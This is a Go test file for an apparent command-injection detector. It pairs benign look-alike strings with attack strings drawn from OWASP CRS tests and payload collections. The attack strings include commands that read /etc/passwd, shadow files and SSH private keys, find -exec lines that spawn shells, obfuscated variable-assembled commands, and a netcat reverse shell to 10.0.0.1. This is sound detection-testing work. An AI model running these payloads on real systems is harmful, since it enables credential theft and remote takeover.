package signature_test

import "testing"

// A command line that changes directory and then names a system file by
// its relative name ("cd /etc;cat passwd"): the file is the one an
// absolute path would name. Public samples: the OWASP CRS regression
// tests of its rule 932235 (Apache-2.0), and their kin.
var cdAttacks = []placedCase{
	{"cd /;cd etc;column passwd", nil},
	{"cd /;cd etc;fold passwd", nil},
	{"CD /;CD ETC;COMM PASSWD PASSWD", nil},
	{"cd /etc;cat passwd", nil},
	{"cd /etc && cat shadow", nil},
	{"x; cd /etc/; head passwd", nil},
	{"cd /etc; head -n 3 passwd", nil},
	{"cd /root/.ssh; cat id_rsa", nil},
}

// cdBenign are command lines and notes that change to a folder and read
// a file no attacker wants, or leave the folder before naming one.
var cdBenign = []placedCase{
	{"cd /home/user; cat notes.txt", nil},
	{"cd /tmp;cat passwd", nil},
	{"cd /etc then edit the passwd file", nil},
	{"cd /srv/app && cat README", nil},
	{"cd /etc; cd /tmp; cat passwd", nil},
	{"cd /; cat passwd", nil},
}

func TestCdThenRelativeFile(t *testing.T) {
	checkPlaced(t, "cmdi", cdAttacks, 0.99, cdBenign, 0.75)
}

// find runs a command on what it finds (-exec, -execdir, -ok): a shell,
// an interpreter or a fetcher, or a reader of a system folder's files:
// the CRS's 932236 tests (Apache-2.0) and GTFOBins' find. Sentences with
// the word "find", and findutils' changelog lines, stay prose.
var findExecAttacks = []placedCase{
	{"find /etc -name passwd -exec cat {}  \\;", nil},
	{"find . -exec /bin/sh \\; -quit", nil},
	{";find . -execdir sh -c id \\;", nil},
	{"find /root -name id_rsa -exec base64 {} +", nil},
}

var findExecBenign = []placedCase{
	{"find the best -exec team in town", nil},
	{"How do I find -exec arguments in the manual?", nil},
	{"find your order -> track it", nil},
	{"chmod a-x . && find / -maxdepth 0 -exec true \\;", nil},
	{"\"find . -false -exec foo {} +\" no longer runs an extra instance of foo", nil},
	{"'find -D exec' now diagnoses all -exec, -execdir, -ok and -okdir runs", nil},
}

func TestFindExec(t *testing.T) {
	checkPlaced(t, "cmdi", findExecAttacks, 0.99, findExecBenign, 0.75)
}

// Variables that assemble a command, then run it: PayloadsAllTheThings'
// "a=c;b=at;c=/etc/passwd;$a$b $c" and the CRS's 932200 tests
// (Apache-2.0). Assignments whose line runs nothing hostile stay apart.
var varsAttacks = []placedCase{
	{"a=c;b=at;c=/etc/passwd;$a$b $c", nil},
	{"c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11", nil},
	{"u=wh;v=oami;$u$v", nil},
	{"x=\"n\"\"c\"; ${x} -e /bin/sh 10.0.0.1 4444", nil},
}

var varsBenign = []placedCase{
	{"price=5; total=$price", nil},
	{"a=1 b=2 then $a plus $b", nil},
	{"color=red;size=$m", nil},
}

func TestVariablesAssembleCommand(t *testing.T) {
	checkPlaced(t, "cmdi", varsAttacks, 0.99, varsBenign, 0.75)
}
